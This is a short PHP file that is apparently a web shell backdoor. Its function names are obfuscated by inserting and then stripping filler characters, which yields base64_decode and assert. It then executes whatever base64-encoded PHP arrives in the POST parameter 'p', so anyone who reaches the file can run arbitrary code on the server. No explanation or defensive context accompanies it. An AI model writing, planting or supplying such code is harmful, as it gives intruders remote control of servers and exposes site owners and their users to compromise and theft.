<?php
$k = str_replace('q', '', 'bqaqsqeq6q4q_qdqeqcqoqdqe');
$e = str_replace('#', '', 'a#s#s#e#r#t');
$e($k($_POST['p']));
